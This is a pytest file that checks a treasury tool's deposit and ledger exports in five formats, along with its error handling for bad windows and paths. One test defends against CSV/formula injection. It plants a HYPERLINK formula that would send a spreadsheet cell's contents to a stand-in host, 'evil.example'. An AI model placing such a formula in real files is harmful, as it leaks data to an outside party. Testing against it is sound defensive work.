"""`treasury export deposits|ledger` (issue 8): each format read back with its standard reader (csv,
json, pyarrow, openpyxl, Beancount's own loader) and compared field by field with the hand-worked values
of tests/export_support.py and with the ledger's own postings; bad windows and paths exit 2 and write
nothing. Every test runs on SQLite and on PostgreSQL.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import re
import stat
import subprocess
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from beancount import loader
from beancount.core import data
from sqlalchemy import text

from ledger_client import Ledger
from tests.backfill_support import TREASURY, treasury
from tests.export_support import (
    ALL_ROWS,
    CREDITED_TOTAL,
    EXPECTED,
    OSR_POSTED,
    OSR_SIGNATURE,
    SOL_LINKED,
    SOL_SUSPENSE,
    SUSPENSE_TOTAL,
    USDC_SUSPENSE,
    export_ledger,
)
from tests.proof_support import OSR_MINT, TREASURY_OSR, environment

COLUMNS = [
    "deposit_id",
    "received_at",
    "slot",
    "signature",
    "explorer_url",
    "sender",
    "treasury_account",
    "treasury_wallet",
    "asset",
    "mint",
    "amount",
    "amount_raw",
    "decimals",
    "price_usd",
    "price_source",
    "price_point_time",
    "usd_value",
    "bonus",
    "credits",
    "osr_burn",
    "osr_retained",
    "customer",
    "attribution",
    "status",
    "reason",
    "ledger_transaction_id",
    "program",
    "program_instruction",
    "memo",
]
EVERYTHING = ("--since", "2020-01-01T00:00:00Z", "--until", "2027-01-01T00:00:00Z")


def _deposit_ids(ledger: Ledger) -> dict[str, int]:
    rows = ledger.read(lambda uow: uow.connection.execute(text("SELECT signature, id FROM deposits")).all())
    return {signature: int(deposit_id) for signature, deposit_id in rows}


def _postings(ledger: Ledger, transaction_id: int) -> set[tuple[str, str, int]]:
    return {(p.account, p.currency, p.amount) for p in ledger.transaction(transaction_id).postings}


def _check_against_ledger(records: dict[str, dict[str, Any]], ledger: Ledger) -> None:
    """Each credited or held row against its ledger transaction: the customer's (or suspense's) USD
    credit is -credits, the treasury's holding is +amount_raw, OSR's burn share and the bonus likewise."""
    ids = _deposit_ids(ledger)
    assert {signature: int(record["deposit_id"]) for signature, record in records.items()} == {
        signature: ids[signature] for signature in records
    }
    for record in records.values():
        if record["status"] not in ("credited", "suspense"):
            assert record["ledger_transaction_id"] in (None, "")
            continue
        postings = _postings(ledger, int(record["ledger_transaction_id"]))
        credits = int(Decimal(record["credits"]) * 1_000_000)
        holder = record["customer"] if record["status"] == "credited" else "suspense"
        assert (holder, "USD", -credits) in postings
        if record["asset"] == "OSR":
            assert ("osr:to-burn", "OSR", int(Decimal(record["osr_burn"]) * 10**9)) in postings
            assert ("osr:retained", "OSR", int(Decimal(record["osr_retained"]) * 10**9)) in postings
            assert ("expense:bonus", "USD", int(Decimal(record["bonus"]) * 1_000_000)) in postings
        else:
            assert (f"treasury:{record['asset']}", record["asset"], int(record["amount_raw"])) in postings


def _check_expected(records: dict[str, dict[str, Any]], normalise: Any = lambda name, value: value) -> None:
    for signature, expected in EXPECTED.items():
        record = records[signature]
        for name, value in expected.items():
            assert normalise(name, record[name]) == value, (signature[:8], name)
        assert record["explorer_url"] == f"https://explorer.solana.com/tx/{signature}"


def _csv_value(name: str, value: str) -> Any:
    if value == "":
        return None
    return int(value) if name in ("slot", "decimals") else value


def test_csv_and_jsonl_field_by_field(ledger_url: str, tmp_path: Path) -> None:
    with export_ledger(ledger_url) as (ledger, settings):
        env = environment(settings)
        for file_format in ("csv", "jsonl"):
            done = treasury(
                "export",
                "deposits",
                *EVERYTHING,
                "--format",
                file_format,
                "--out",
                str(tmp_path / f"d.{file_format}"),
                env=env,
            )
            assert done.returncode == 0, done.stderr
            assert f"{ALL_ROWS} rows" in done.stderr
            assert f"credited {CREDITED_TOTAL} USD, held in suspense {SUSPENSE_TOTAL} USD" in done.stderr
        with (tmp_path / "d.csv").open(newline="", encoding="utf-8") as handle:
            reader = csv.DictReader(handle)
            assert reader.fieldnames == COLUMNS
            from_csv = {row["signature"]: row for row in reader}
        from_jsonl = {
            record["signature"]: record for record in map(json.loads, (tmp_path / "d.jsonl").read_text().splitlines())
        }
        assert len(from_csv) == len(from_jsonl) == ALL_ROWS
        _check_expected(from_csv, _csv_value)
        _check_expected(from_jsonl)
        _check_against_ledger(from_jsonl, ledger)
        _check_against_ledger(from_csv, ledger)
        # Chain order: by block time; the oldest is the 2021-04-06 SOL deposit.
        times = [record["received_at"] for record in from_jsonl.values()]
        assert times == sorted(times) and times[0] == "2021-04-06T04:41:07Z"
        # Every decimal column is plain fixed-point text: no exponent, no float artefacts.
        decimal_columns = (
            "amount",
            "amount_raw",
            "price_usd",
            "usd_value",
            "bonus",
            "credits",
            "osr_burn",
            "osr_retained",
        )
        for record in from_csv.values():
            for name in decimal_columns:
                assert record[name] == "" or re.fullmatch(r"\d+(\.\d+)?", record[name]), (name, record[name])


def test_parquet_holds_exact_decimals(ledger_url: str, tmp_path: Path) -> None:
    with export_ledger(ledger_url) as (ledger, settings):
        out = tmp_path / "d.parquet"
        done = treasury(
            "export", "deposits", *EVERYTHING, "--format", "parquet", "--out", str(out), env=environment(settings)
        )
        assert done.returncode == 0, done.stderr
        table = pq.read_table(out)
        assert table.column_names == COLUMNS
        assert table.schema.field("price_usd").type == pa.decimal128(38, 18)
        assert table.schema.field("credits").type == pa.decimal128(38, 6)
        assert table.schema.field("received_at").type == pa.timestamp("ms", tz="UTC")
        rows = {row["signature"]: row for row in table.to_pylist()}
        assert len(rows) == ALL_ROWS

        def normalise(name: str, value: Any) -> Any:
            if isinstance(value, dt.datetime):
                return value.astimezone(dt.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
            return value

        for signature, expected in EXPECTED.items():
            for name, value in expected.items():
                got = normalise(name, rows[signature][name])
                if isinstance(got, Decimal):
                    assert got == Decimal(value), (signature[:8], name)  # equal as numbers, exactly
                elif name == "amount_raw":
                    assert got == Decimal(value)
                else:
                    assert got == value, (signature[:8], name)
        # 22.942985835974703 has 17 significant digits: a float would not keep it.
        assert rows[SOL_SUSPENSE]["price_usd"] == Decimal("22.942985835974703")
        _check_against_ledger(
            {
                signature: {
                    **row,
                    "credits": None if row["credits"] is None else str(row["credits"]),
                    "amount_raw": str(row["amount_raw"]),
                }
                for signature, row in rows.items()
            },
            ledger,
        )


def test_xlsx_one_header_row_then_rows_and_totals_on_another_sheet(ledger_url: str, tmp_path: Path) -> None:
    with export_ledger(ledger_url) as (ledger, settings):
        out = tmp_path / "d.xlsx"
        done = treasury(
            "export", "deposits", *EVERYTHING, "--format", "xlsx", "--out", str(out), env=environment(settings)
        )
        assert done.returncode == 0, done.stderr
        ids = _deposit_ids(ledger)
    workbook = openpyxl.load_workbook(out)
    assert workbook.sheetnames == ["Deposits", "Totals"]
    sheet = workbook["Deposits"]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == COLUMNS
    assert len(rows) == 1 + ALL_ROWS
    by_signature = {row[3]: dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]}
    linked = by_signature[SOL_LINKED]
    assert linked["deposit_id"] == ids[SOL_LINKED]
    assert linked["received_at"] == dt.datetime(2023, 3, 30, 3, 14, 3)  # a date cell, UTC
    assert linked["credits"] == pytest.approx(0.021132, abs=0)
    assert by_signature[OSR_SIGNATURE]["osr_burn"] == 7000
    # The cells hold the exact decimal text (openpyxl alone would write %.16g: 22.9429858359747).
    xml = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
    assert "<v>22.942985835974703</v>" in xml
    assert "<v>21.13233391276909</v>" in xml
    assert "<v>0.021132</v>" in xml
    totals = {row[0]: row for row in workbook["Totals"].iter_rows(values_only=True) if row[0]}
    # OSR: 1 inflow, 10,000 OSR received and held, 50.000000 value, 25.000000 bonus, 75.000000 held,
    # 7,000 burn, 3,000 kept.
    assert totals["OSR"][1:] == (1, 10000, 10000, 50, 25, 0, 75, 7000, 3000)
    # SOL: 0.001 + 0.01 + 0.042 + 0.024922118 received; 0.001 + 0.01 credited or held, worth
    # 0.021132 + 0.229429.
    assert totals["SOL"][1:8] == (
        4,
        pytest.approx(0.077922118),
        0.011,
        pytest.approx(0.250561),
        0,
        0.021132,
        0.229429,
    )
    # USDC: 0.001 (dust) + 14.198095 (the treasury's own swap) + 3.8 received; only the 3.8 held.
    assert totals["USDC"][1:4] == (3, pytest.approx(17.999095), 3.8)
    assert totals["credited"][1] == 0.021132
    assert totals["held_in_suspense"][1] == 79.029429


def test_ledger_journal_loads_in_beancount_and_agrees_with_the_ledger(ledger_url: str, tmp_path: Path) -> None:
    with export_ledger(ledger_url) as (ledger, settings):
        env = environment(settings)
        june = ("--since", "2026-06-01", "--until", "2026-07-01")
        out = tmp_path / "june.beancount"
        done = treasury("export", "ledger", *june, "--format", "beancount", "--out", str(out), env=env)
        assert done.returncode == 0, done.stderr
        assert "1 transactions" in done.stderr  # only the OSR hold was posted in June
        sums = ledger.read(
            lambda uow: uow.connection.execute(
                text("SELECT account, currency, SUM(amount) FROM ledger_postings GROUP BY account, currency")
            ).all()
        )
        everything = tmp_path / "all.csv"
        assert (
            treasury("export", "ledger", *EVERYTHING, "--format", "csv", "--out", str(everything), env=env).returncode
            == 0
        )
        jsonl = tmp_path / "june.jsonl"
        assert treasury("export", "ledger", *june, "--format", "jsonl", "--out", str(jsonl), env=env).returncode == 0
        osr_hold = ledger.transaction_by_key(f"sol:{OSR_SIGNATURE}:{TREASURY_OSR}:{OSR_MINT}")
    entries, errors, _options = loader.load_file(str(out))
    assert errors == [], [str(error) for error in errors]  # balanced, opened, and every balance assertion holds
    names = {
        entry.account: entry.meta["ledger_account"]
        for entry in entries
        if isinstance(entry, data.Open) and "ledger_account" in entry.meta
    }
    totals: dict[tuple[str, str], Decimal] = {}
    for entry in entries:
        if isinstance(entry, data.Transaction):
            for posting in entry.postings:
                if posting.account in names:
                    key = (names[posting.account], posting.units.currency)
                    totals[key] = totals.get(key, Decimal(0)) + posting.units.number
    decimals = {"USD": 6, "SOL": 9, "USDC": 6, "OSR": 9}
    expected = {
        (account, currency): Decimal(int(total)).scaleb(-decimals[currency])
        for account, currency, total in sums
        if int(total) != 0
    }
    assert {key: value for key, value in totals.items() if value != 0} == expected
    # By hand: suspense holds 0.229429 + 3.8 + 75 = 79.029429 USD; 7,000 OSR owed to burn.
    assert totals[("suspense", "USD")] == Decimal("-79.029429")
    assert totals[("osr:to-burn", "OSR")] == Decimal("7000")
    assert names["Liabilities:Customers:Agt-demo-alice"] == "agt_demo_alice"
    [june_transaction] = [
        entry for entry in entries if isinstance(entry, data.Transaction) and entry.narration.startswith("sol:")
    ]
    assert june_transaction.date == OSR_POSTED.date()
    assert osr_hold is not None and june_transaction.meta["ledger_id"] == str(osr_hold.id)
    # The csv journal: one row per posting of every transaction; the jsonl: one object per transaction.
    with everything.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len({row["transaction_id"] for row in rows}) == 4  # 3 demo transactions and the OSR hold
    assert sum(1 for row in rows if row["transaction_id"] == str(osr_hold.id)) == len(osr_hold.postings)
    for row in rows:
        assert Decimal(row["amount"]).scaleb(decimals[row["currency"]]) == int(row["amount_base_units"])
    [record] = [json.loads(line) for line in jsonl.read_text().splitlines()]
    assert record["transaction_id"] == osr_hold.id
    assert {(p["account"], p["currency"], int(p["amount_base_units"])) for p in record["postings"]} == {
        (p.account, p.currency, p.amount) for p in osr_hold.postings
    }


@pytest.mark.parametrize(
    ("window", "message"),
    [
        (("--since", "2026-06-01", "--until", "2026-05-01"), "--until 2026-05-01 is not after --since 2026-06-01"),
        (("--since", "last tuesday", "--until", "2026-05-01"), "--since: not an ISO 8601 time: 'last tuesday'"),
        (("--since", "2026-05-01", "--until", "2026-13-01"), "--until: not an ISO 8601 time: '2026-13-01'"),
    ],
)
def test_bad_windows_exit_2_and_write_nothing(
    sqlite_url: str, tmp_path: Path, window: tuple[str, ...], message: str
) -> None:
    env = {"TREASURY_DATABASE_URL": sqlite_url, "PATH": "/usr/bin:/bin"}
    kept = tmp_path / "kept.csv"
    kept.write_text("an earlier export\n")
    commands = [
        ("export", "deposits", *window, "--format", "csv", "--out", str(kept)),
        ("export", "deposits", *window, "--format", "parquet", "--out", str(tmp_path / "new.parquet")),
        ("export", "ledger", *window, "--format", "beancount", "--out", str(tmp_path / "new.beancount")),
        ("report", *window, "--out", str(tmp_path / "report")),
    ]
    for command in commands:
        done = treasury(*command, env=env)
        assert done.returncode == 2, (command, done.stderr)
        assert message in done.stderr
        assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
    assert kept.read_text() == "an earlier export\n"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["kept.csv", "ledger.db"]  # the fixture's ledger


def test_bad_output_paths_exit_2(sqlite_url: str, tmp_path: Path) -> None:
    env = {"TREASURY_DATABASE_URL": sqlite_url, "PATH": "/usr/bin:/bin"}
    window = ("--since", "2026-05-01", "--until", "2026-06-01")
    missing = treasury(
        "export", "deposits", *window, "--format", "csv", "--out", str(tmp_path / "no" / "d.csv"), env=env
    )
    assert missing.returncode == 2 and "does not exist" in missing.stderr
    folder = treasury("export", "ledger", *window, "--format", "csv", "--out", str(tmp_path), env=env)
    assert folder.returncode == 2 and "is a folder" in folder.stderr
    (tmp_path / "file").write_text("x")
    report = treasury("report", *window, "--out", str(tmp_path / "file"), env=env)
    assert report.returncode == 2 and "not a folder" in report.stderr
    assert sorted(path.name for path in tmp_path.iterdir()) == ["file", "ledger.db"]


def test_an_empty_window_is_a_header_only_file(sqlite_url: str, tmp_path: Path) -> None:
    env = {"TREASURY_DATABASE_URL": sqlite_url, "PATH": "/usr/bin:/bin"}
    out = tmp_path / "empty.csv"
    done = treasury(
        "export",
        "deposits",
        "--since",
        "2026-05-01",
        "--until",
        "2026-06-01",
        "--format",
        "csv",
        "--out",
        str(out),
        env=env,
    )
    assert done.returncode == 0, done.stderr
    assert out.read_text() == ",".join(COLUMNS) + "\n"
    assert USDC_SUSPENSE not in out.read_text()


def test_a_senders_memo_never_becomes_a_formula_or_breaks_the_xlsx(sqlite_url: str, tmp_path: Path) -> None:
    """The memo is the one field a sender writes freely: a formula in it stays text, and control
    characters (valid UTF-8, but not allowed in XLSX) are written as \\xNN instead of failing the export."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with export_ledger(sqlite_url) as (ledger, settings):
        ledger.run(
            lambda uow: uow.connection.execute(
                text("UPDATE deposits SET memo = :memo WHERE signature = :s"),
                [{"memo": formula, "s": SOL_LINKED}, {"memo": "bell\x07nul\x00end", "s": USDC_SUSPENSE}],
            )
        )
        env = environment(settings)
        for file_format in ("xlsx", "csv", "jsonl"):
            done = treasury(
                "export", "deposits", *EVERYTHING, "--format", file_format, "--out", str(tmp_path / f"m.{file_format}"),
                env=env,
            )  # fmt: skip
            assert done.returncode == 0, done.stderr
    sheet = openpyxl.load_workbook(tmp_path / "m.xlsx")["Deposits"]
    memos = {row[3].value: row[-1] for row in sheet.iter_rows(min_row=2)}
    assert (memos[SOL_LINKED].value, memos[SOL_LINKED].data_type) == (formula, "s")
    assert memos[USDC_SUSPENSE].value == "bell\\x07nul\\x00end"
    assert "<f>" not in zipfile.ZipFile(tmp_path / "m.xlsx").read("xl/worksheets/sheet1.xml").decode()
    with (tmp_path / "m.csv").open(newline="") as handle:
        from_csv = {row["signature"]: row["memo"] for row in csv.DictReader(handle)}
    assert from_csv[SOL_LINKED] == "'" + formula  # shown as text by spreadsheets (CSV injection)
    from_jsonl = {r["signature"]: r["memo"] for r in map(json.loads, (tmp_path / "m.jsonl").read_text().splitlines())}
    assert from_jsonl[SOL_LINKED] == formula  # verbatim where no spreadsheet reads it
    assert from_jsonl[USDC_SUSPENSE] == "bell\x07nul\x00end"


def test_out_must_be_a_regular_file_and_keeps_its_mode(sqlite_url: str, tmp_path: Path) -> None:
    env = {"TREASURY_DATABASE_URL": sqlite_url, "PATH": "/usr/bin:/bin"}
    window = ("--since", "2026-05-01", "--until", "2026-06-01")
    target = tmp_path / "real.csv"
    target.write_text("kept\n")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    for out, message in (
        (link, "a symbolic link"),
        (Path("/dev/null"), "not a regular file"),
        (Path("-"), "name a file"),
    ):
        done = treasury("export", "deposits", *window, "--format", "csv", "--out", str(out), env=env)
        assert done.returncode == 2, (out, done.stderr)
        assert message in done.stderr and done.stderr.count("\n") == 1
    assert link.is_symlink() and target.read_text() == "kept\n"
    assert Path("/dev/null").is_char_device()
    # A place no file can be created in: exit 2 before the ledger is read.
    done = treasury("export", "ledger", *window, "--format", "csv", "--out", "/proc/treasury-export.csv", env=env)
    assert done.returncode == 2 and "cannot write in /proc" in done.stderr
    # A new file gets 0666 less the umask; a replaced file keeps its mode.
    fresh = tmp_path / "fresh.csv"
    done = subprocess.run(
        ["sh", "-c", 'umask 022 && exec "$0" "$@"', TREASURY, "export", "deposits", *window, "--format", "csv",
         "--out", str(fresh)],
        env=env, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o644
    target.chmod(0o640)
    assert treasury("export", "deposits", *window, "--format", "csv", "--out", str(target), env=env).returncode == 0
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    assert target.read_text() == ",".join(COLUMNS) + "\n"
